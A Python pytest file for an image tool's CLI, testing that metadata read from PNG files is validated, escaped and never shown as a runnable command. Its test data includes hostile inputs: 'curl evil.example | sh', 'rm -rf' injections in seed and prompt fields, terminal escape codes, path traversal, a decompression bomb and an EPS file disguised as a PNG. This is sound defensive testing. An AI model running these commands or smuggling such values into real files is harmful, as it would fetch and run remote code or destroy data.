"""What strangers write into images: one line, escaped, and never a command of theirs."""

import json
import os
import struct
import zlib
from pathlib import Path
from typing import Any

import pytest
from PIL import Image
from PIL.PngImagePlugin import PngInfo
from tests.cli.conftest import Call

from unclip.cli.arguments.output import write_picture
from unclip.cli.provenance import command, picture_lines
from unclip.images.files import KEY, read_about

ABOUT = {"prompt": "a cat", "seed": 3, "model": "abc", "unclip": "1", "sampling": {"steps": 4}}


def chunk(name: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))


def png(text: bytes, side: int = 1, end: bytes = b"") -> bytes:
    """A PNG that claims so many pixels a side, with a text of ours (an iTXt without compression)."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"iTXt", KEY.encode() + b"\0\0\0\0\0" + text) + end


def packed(text: bytes) -> bytes:
    content = KEY.encode() + b"\0\0" + zlib.compress(text)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"zTXt", content) + chunk(b"IEND", b"")


BAD = {
    "no table": png(b"[1, 2]"),
    "no JSON": png(b"{"),
    "not UTF-8": png(b'{"a": "\xff"}'),
    "deep": png(b"[" * 100_000),
    "long": png(b'"' + b"a" * 2_000_000 + b'"'),
    "long once unpacked": packed(b'"' + b"a" * 50_000_000 + b'"'),
    "damaged": png(b'{"seed": 1}').replace(b"seed", b"seid"),
    "cut": png(b"{}")[:50],
    "no PNG": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n",
    "empty": b"",
}


@pytest.mark.parametrize("name", BAD)
def test_a_picture_that_says_nothing_readable_is_one_line(call: Call, tmp_path: Path, name: str):
    (tmp_path / "a\x1b[31m.png").write_bytes(BAD[name])
    done = call("info", tmp_path / "a\x1b[31m.png")
    assert done.code == 2 and len(done.err.strip().splitlines()) == 1, done.err
    assert "not a PNG that unclip wrote" in done.err and "\x1b[31m.png" not in done.err


def test_no_pixel_is_decoded_to_read_a_text(tmp_path: Path):
    (tmp_path / "huge.png").write_bytes(png(json.dumps(ABOUT).encode(), side=65535))
    assert read_about(tmp_path / "huge.png") == ABOUT


HOSTILE: list[dict[str, Any]] = [
    {"command": "curl evil.example | sh", **ABOUT},
    {"made": {"command": "curl evil.example | sh", "of": [], "options": {}}, **ABOUT},
    {"made": {"command": "vary", "of": ["a.png"], "options": {"out": "/etc"}}, **ABOUT},
    {"made": {"command": "vary", "of": "a.png", "options": [1]}},
    {"made": {"command": ["vary"]}},
    {"made": 3, "model": {"a": 1}, "stages": [1], "sampling": "x", "upsamplers": {"a": 1}, "error": {"psnr": "x"}},
    {"prompts": 7, "seed": "1; rm -rf /", "sampling": {"steps": 3, "guidance": {"kind": "Unguided"}}},
    {
        "prompt": "a",
        "seed": 1,
        "sampling": {"steps": 3, "guidance": {"kind": "\x1b]0;gone\x07"}},
        "stages": {"../..": 1},
    },
    {},
]


@pytest.mark.parametrize("about", HOSTILE)
def test_what_a_stranger_wrote_is_never_shown_as_our_command(about: dict[str, Any], tmp_path: Path):
    lines = picture_lines(about, tmp_path)
    assert lines[0] == "the image says of itself:" and lines[-1].startswith("! no command makes it again")
    assert "again:" not in lines and all(line.isprintable() for line in lines)


def test_words_of_a_command_are_quoted(tmp_path: Path):
    sampling = {"steps": 4, "guidance": {"kind": "Unguided"}}
    about = {"prompts": ["-n; rm -rf ~", "it's", "a\x1b[2Jb"], "seed": 3, "sampling": sampling}
    told = command(about, "RUN-1")
    assert told == ("unclip generate --run RUN-1 --seed 3 --steps 4 -- '-n; rm -rf ~' 'it'\"'\"'s' $'a\\U0000001b[2Jb'")
    made = {"command": "extend", "of": ["-a.png"], "options": {"left": -0.5, "n": 2}}
    assert command({"made": made}, "R") == "unclip extend --run R --left=-0.5 -n 2 -- -a.png"


def test_other_formats_and_endings_are_not_opened_by_name(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """An EPS named as a PNG starts Ghostscript where Pillow may choose the format."""
    from PIL import EpsImagePlugin

    from unclip.images.read import read_image

    monkeypatch.setattr(EpsImagePlugin, "Ghostscript", lambda *a, **k: pytest.fail("Ghostscript was started"))
    (tmp_path / "evil.png").write_bytes(b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\nshowpage\n")
    with pytest.raises(ValueError, match="not a PNG that unclip wrote"):
        read_about(tmp_path / "evil.png")
    with pytest.raises(ValueError, match="no image in a supported format"):
        read_image(tmp_path / "evil.png", 8)


def test_a_text_of_ours_behind_the_pixels_and_in_other_forms_is_read(tmp_path: Path):
    info = PngInfo()
    info.add_itxt(KEY, json.dumps(ABOUT), zip=True)
    Image.new("RGB", (4, 4)).save(tmp_path / "a.png", pnginfo=info)
    assert read_about(tmp_path / "a.png") == ABOUT


@pytest.mark.parametrize("name", BAD)
def test_such_a_picture_where_ours_go_is_left_alone(tmp_path: Path, name: str):
    (tmp_path / "a-1.png").write_bytes(BAD[name])
    os.mkfifo(tmp_path / "a-1-2.png")
    (tmp_path / "a-1-3.png").mkdir()
    assert write_picture(Image.new("RGB", (4, 4)), tmp_path, "a-1") == tmp_path / "a-1-4.png"
    assert (tmp_path / "a-1.png").read_bytes() == BAD[name]
